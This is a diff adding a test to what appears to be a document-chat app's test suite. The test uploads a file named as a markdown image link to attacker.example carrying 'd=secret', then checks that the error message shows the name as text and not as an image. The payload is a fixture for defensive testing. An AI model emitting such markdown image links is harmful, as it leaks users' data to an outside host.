@@ -116,3 +116,12 @@ def test_the_sidebar_narrows_a_conversation_to_chosen_documents(
     assert services.conversations.documents_of(alice, conversation.id) == [menu_id]
     at.multiselect(key=f"documents-{conversation.id}").unselect(menu_id).run()
     assert services.conversations.documents_of(alice, conversation.id) is None  # all again
+
+
+def test_a_file_named_as_markdown_gets_its_sentence_as_text() -> None:
+    add_user("alice", "alice-password")
+    at = app()
+    log_in(at, "alice", "alice-password")
+    upload(at, ("![x](https://attacker.example/?d=secret) notes.md", b"   "))
+    (error,) = [e.value for e in at.error]  # the sentence names the file: never an image
+    assert "![x]" not in error and "image not loaded: x" in error and "notes.md" in error
